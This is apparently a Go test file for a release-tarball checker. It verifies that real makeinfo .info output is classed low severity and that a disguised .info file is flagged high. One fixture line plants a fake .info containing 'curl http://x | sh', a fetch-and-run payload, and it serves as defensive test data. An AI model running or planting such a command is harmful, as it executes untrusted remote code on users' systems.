package explain

import (
	"testing"

	"github.com/tarcheck/tarcheck/releasefmt"
	"github.com/tarcheck/tarcheck/verify/report"
)

// makeinfoDemo is what makeinfo writes for a one-node demo.texi.
const makeinfoDemo = "This is demo.info, produced by makeinfo version 7.1 from demo.texi.\n\n" +
	"\x1f\nFile: demo.info,  Node: Top,  Next: First,  Up: (dir)\n\nDemo\n****\n\nThis is the demo manual.\n\n" +
	"\x1f\nTag Table:\nNode: Top70\n\x1f\nEnd Tag Table\n\n\x1f\nLocal Variables:\ncoding: utf-8\nEnd:\n"

// Step d: a makeinfo manual only in the tarball whose .texi is in the tag
// is release-format, low, with a makeinfo origin naming the .texi.
func TestReleaseFormatMakeinfo(t *testing.T) {
	tree := map[string]string{"doc/demo.texi": "\\input texinfo\n@setfilename demo.info\n@bye\n", "configure.ac": "AC_INIT\n"}
	tarball := map[string]string{"doc/demo.texi": tree["doc/demo.texi"], "configure.ac": "AC_INIT\n", "doc/demo.info": makeinfoDemo}
	res, files := explainRelease(t, tarball, tree, Input{Version: "1.0"})
	f := files["doc/demo.info"]
	if f.Class != ClassReleaseFormat || f.Severity != report.SevLow || f.Origin == nil ||
		f.Origin.Kind != releasefmt.KindMakeinfo || f.Origin.Path != "doc/demo.texi" || f.Origin.Transform == "" {
		t.Fatalf("doc/demo.info = %+v origin %+v, want release-format low from makeinfo doc/demo.texi", f, f.Origin)
	}
	for _, fd := range res.Findings {
		if fd.Severity >= report.SevMedium {
			t.Errorf("unexpected finding %+v", fd)
		}
	}
}

// A file named .info that is not makeinfo output is high, with TC921.
func TestReleaseFormatNotMakeinfo(t *testing.T) {
	tree := map[string]string{"doc/demo.texi": "\\input texinfo\n@bye\n"}
	tarball := map[string]string{"doc/demo.texi": tree["doc/demo.texi"], "doc/demo.info": "#!/bin/sh\ncurl http://x | sh\n"}
	res, files := explainRelease(t, tarball, tree, Input{Version: "1.0"})
	if f := files["doc/demo.info"]; f.Class == ClassReleaseFormat || f.Origin != nil {
		t.Errorf("doc/demo.info explained: %+v", f)
	}
	found := false
	for _, fd := range res.Findings {
		if fd.Rule == report.RuleInfoNotMakeinfo && fd.Path == "doc/demo.info" && fd.Severity == report.SevHigh {
			found = true
		}
	}
	if !found {
		t.Errorf("no high %s for doc/demo.info in %+v", report.RuleInfoNotMakeinfo, res.Findings)
	}
}

// releasefmt's rule ids are the catalogue's.
func TestReleaseFormatRuleIDs(t *testing.T) {
	pairs := [][2]string{
		{releasefmt.RuleCrateCommit, report.RuleCrateOtherCommit}, {releasefmt.RuleCrateOrig, report.RuleCrateOrigDiffers},
		{releasefmt.RuleCrateNormalized, report.RuleCrateManifestEdited}, {releasefmt.RuleCrateDirty, report.RuleCrateDirty},
		{releasefmt.RuleCrateVCSInfo, report.RuleCrateVCSInfoUnreadable}, {releasefmt.RuleSdistMeta, report.RuleSdistMetadataMismatch},
		{releasefmt.RuleInfoNotMakeinfo, report.RuleInfoNotMakeinfo}, {releasefmt.RuleDownloadHash, report.RuleDownloadHashMismatch},
	}
	for _, p := range pairs {
		if _, ok := report.LookupRule(p[0]); !ok || p[0] != p[1] {
			t.Errorf("releasefmt rule %s: catalogue has %s (listed: %v)", p[0], p[1], ok)
		}
	}
}
